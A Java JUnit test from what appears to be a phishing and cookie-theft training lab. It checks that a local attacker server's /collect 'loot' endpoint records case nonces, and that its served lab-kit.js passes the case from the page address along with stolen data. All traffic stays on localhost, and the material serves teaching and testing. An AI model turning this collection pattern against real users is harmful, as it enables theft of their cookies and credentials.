package lab.attacker;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import lab.attacker.loot.Loot;
import lab.scenarios.ScenarioCatalogue;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** The loot backend keeps the case a haul names, as the lab kit sends it; anything else names no case. */
class LootCaseNonceTest {

    private static final String NONCE = "00112233445566778899aabbccddeeff";

    private final HttpClient http = HttpClient.newHttpClient();
    private AttackerServer attacker;

    @BeforeEach
    void start() {
        attacker =
                new AttackerServer(ScenarioCatalogue.load(), () -> "http://social.localhost:1").start("127.0.0.1", 0);
    }

    @AfterEach
    void stop() {
        attacker.close();
    }

    @Test
    void a_haul_keeps_the_case_nonce_the_page_sent_and_a_malformed_one_names_no_case() throws Exception {
        assertThat(collect(",\"case\":\"" + NONCE + "\"")).isEqualTo(201);
        assertThat(collect(",\"case\":\"not-a-nonce\"")).isEqualTo(201);
        assertThat(collect("")).isEqualTo(201);

        assertThat(attacker.loot().since(0)).extracting(Loot::caseNonce).containsExactly(NONCE, null, null);
    }

    @Test
    void the_lab_kit_sends_the_case_named_in_the_pages_address_with_its_loot() throws Exception {
        String kit = http.send(
                        HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + attacker.port() + "/kit/lab-kit.js"))
                                .build(),
                        HttpResponse.BodyHandlers.ofString())
                .body();
        assertThat(kit).contains("new URLSearchParams(location.search).get('case')", "case: lab.caseNonce");
    }

    private int collect(String caseField) throws Exception {
        return http.send(
                        HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + attacker.port() + "/collect"))
                                .header("Content-Type", "text/plain")
                                .POST(HttpRequest.BodyPublishers.ofString(
                                        "{\"scenario\":\"cookie-theft\",\"data\":{\"username\":\"alice\"}" + caseField
                                                + "}"))
                                .build(),
                        HttpResponse.BodyHandlers.discarding())
                .statusCode();
    }
}
